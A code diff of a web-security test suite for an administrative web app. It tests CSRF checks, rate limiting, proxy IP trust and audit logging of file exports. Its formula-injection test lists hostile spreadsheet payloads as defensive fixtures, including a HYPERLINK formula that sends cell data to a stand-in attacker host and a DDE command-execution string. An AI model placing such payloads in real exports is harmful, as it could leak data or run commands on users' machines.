@@ -2,6 +2,7 @@
 // exports per user), the proxy trust rule, and formula injection through a real export route.
 import JSZip from 'jszip';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { can, type Permission, type Role } from '../../common/roles.js';
 import { daysFromNow } from '../modules/ledger/ledger.fixtures.js';
 import {
   buildTestApp,
@@ -14,6 +15,7 @@ import {
   TEST_PASSWORD,
   type TestApp,
 } from '../test/helper.js';
+import { type CollectedRoute, collectRoutes } from '../test/routes.js';
 
 const RATE_LIMITED = { error: { code: 'RATE_LIMITED', message: '请求过于频繁，请稍后再试' } };
 
@@ -77,7 +79,9 @@ describeEachDialect('web security', (dialect) => {
         url: '/api/v1/auth/login',
         payload: { username, password: TEST_PASSWORD },
       });
-      const cookies = { liaison_session: signedIn.cookies.find((c) => c.name === 'liaison_session')?.value ?? '' };
+      const cookies = {
+        liaison_session: signedIn.cookies.find((c) => c.name === 'liaison_session')?.value ?? '',
+      };
       const other = await loginAs(t, 'tzb', '区委统战部');
       const body = { kind: 'department', name: 'CSRF测试局', regionId: 1, sortOrder: 1 };
       for (const token of [undefined, '', 'x'.repeat(32), other.csrfToken]) {
@@ -91,7 +95,9 @@ describeEachDialect('web security', (dialect) => {
         expect(res.statusCode).toBe(403);
         expect(res.json().error.code).toBe('CSRF_FAILED');
       }
-      expect(await t.db.selectFrom('organisations').select('id').where('name', '=', 'CSRF测试局').execute()).toEqual([]);
+      expect(
+        await t.db.selectFrom('organisations').select('id').where('name', '=', 'CSRF测试局').execute(),
+      ).toEqual([]);
       expect((await t.app.inject({ method: 'GET', url: '/api/v1/auth/me', cookies })).statusCode).toBe(200);
       // a failed CSRF check is not an audit event (it is noise a page reload produces), nor does it end the session
       const logged = await t.db
@@ -124,7 +130,7 @@ describeEachDialect('web security', (dialect) => {
       const dept = await loginAs(t, 'department', '区教育局');
       const hostile = [
         '=HYPERLINK("http://evil.example/?"&A1,"点我")',
-        '+1+cmd|\' /C calc\'!A0',
+        "+1+cmd|' /C calc'!A0",
         '-2+3',
         '@SUM(1,2)',
         '＝1+1',
@@ -147,10 +153,68 @@ describeEachDialect('web security', (dialect) => {
       const parts = Object.keys(zip.files).filter((n) => /^xl\/(worksheets\/.*|sharedStrings)\.xml$/.test(n));
       const xml = (await Promise.all(parts.map((n) => zip.file(n)?.async('string') ?? ''))).join('\n');
       expect(xml).not.toMatch(/<f[\s>]/); // no formula cell anywhere
-      const unescape = (s: string) =>
-        s.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&').replace(/&lt;/g, '<').replace(/&gt;/g, '>');
-      const text = unescape(xml);
+      const unescapeXml = (s: string) =>
+        s
+          .replace(/&quot;/g, '"')
+          .replace(/&apos;/g, "'")
+          .replace(/&amp;/g, '&')
+          .replace(/&lt;/g, '<')
+          .replace(/&gt;/g, '>');
+      const text = unescapeXml(xml);
       for (const title of hostile) expect(text).toContain(`'${title}`);
+    });
+  });
+
+  describe('exports on the audit trail', () => {
+    let t: TestApp;
+    let routes: CollectedRoute[];
+    beforeAll(async () => {
+      const collected = await collectRoutes(() => buildTestApp(dialect));
+      t = collected.built;
+      routes = collected.routes.filter((r) => r.method === 'GET' && /\.(docx|xlsx)$/.test(r.url));
+    });
+    afterAll(async () => t.close());
+
+    it('records every export route of the route table that answers a file (generated, so new ones count too)', async () => {
+      const clients = new Map<Role, Client>();
+      const jiaoyu = await orgId(t.db, '区教育局');
+      const query = `year=2025&organisationId=${jiaoyu}&departmentId=${jiaoyu}`;
+      const exported: string[] = [];
+      const problems: string[] = [];
+      for (const route of routes) {
+        const role = (['tzb', 'department', 'auditadmin', 'qfb'] as Role[]).find((r) =>
+          can(r, route.permission as Permission),
+        );
+        if (!role) continue;
+        if (!clients.has(role))
+          clients.set(
+            role,
+            await loginAs(t, role, role === 'department' ? jiaoyu : role === 'qfb' ? '区府办' : '区委统战部'),
+          );
+        const client = clients.get(role) as Client;
+        const mark = Number(
+          (
+            await t.db
+              .selectFrom('audit_log')
+              .select((eb) => eb.fn.max('id').as('id'))
+              .executeTakeFirst()
+          )?.id ?? 0,
+        );
+        const res = await client.get(`${route.url}?${query}`);
+        if (res.statusCode !== 200) continue;
+        exported.push(route.url);
+        const entries = await t.db
+          .selectFrom('audit_log')
+          .select(['action', 'actor_username', 'ip'])
+          .where('id', '>', mark)
+          .where('action', 'like', '%export')
+          .execute();
+        if (entries.length !== 1 || entries[0]?.actor_username !== client.username) {
+          problems.push(`${route.url}: ${JSON.stringify(entries)}`);
+        }
+      }
+      expect(problems).toEqual([]);
+      expect(exported.length).toBeGreaterThanOrEqual(6);
     });
   });
 
@@ -180,7 +244,8 @@ describeEachDialect('web security', (dialect) => {
 
     it('limits sign-in attempts for one username from anywhere (429 RATE_LIMITED, Retry-After), audited once', async () => {
       const username = await makeUser(t.db, 'department', '区公安分局');
-      for (let i = 0; i < 3; i++) expect((await attempt(username, `198.51.100.${i + 1}`)).statusCode).toBe(401);
+      for (let i = 0; i < 3; i++)
+        expect((await attempt(username, `198.51.100.${i + 1}`)).statusCode).toBe(401);
       const limited = await attempt(username, '198.51.100.9');
       expect(limited.statusCode).toBe(429);
       expect(limited.json()).toEqual(RATE_LIMITED);
@@ -214,7 +279,9 @@ describeEachDialect('web security', (dialect) => {
       expect((await attempt('nobody-10', '203.0.113.8')).statusCode).toBe(401);
       // a proxy on the same host (loopback, trusted by default) passes the client's address on
       for (let i = 0; i < 5; i++) {
-        expect((await attempt(`proxied-${i}`, '127.0.0.1', { 'x-forwarded-for': `192.0.2.${50 + i}` })).statusCode).toBe(401);
+        expect(
+          (await attempt(`proxied-${i}`, '127.0.0.1', { 'x-forwarded-for': `192.0.2.${50 + i}` })).statusCode,
+        ).toBe(401);
       }
       const failed = await t.db
         .selectFrom('audit_log')
@@ -223,7 +290,13 @@ describeEachDialect('web security', (dialect) => {
         .where('detail', 'like', 'unknown-user: proxied-%')
         .orderBy('id')
         .execute();
-      expect(failed.map((r) => r.ip)).toEqual(['192.0.2.50', '192.0.2.51', '192.0.2.52', '192.0.2.53', '192.0.2.54']);
+      expect(failed.map((r) => r.ip)).toEqual([
+        '192.0.2.50',
+        '192.0.2.51',
+        '192.0.2.52',
+        '192.0.2.53',
+        '192.0.2.54',
+      ]);
       const forged = await t.db
         .selectFrom('audit_log')
         .select('ip')
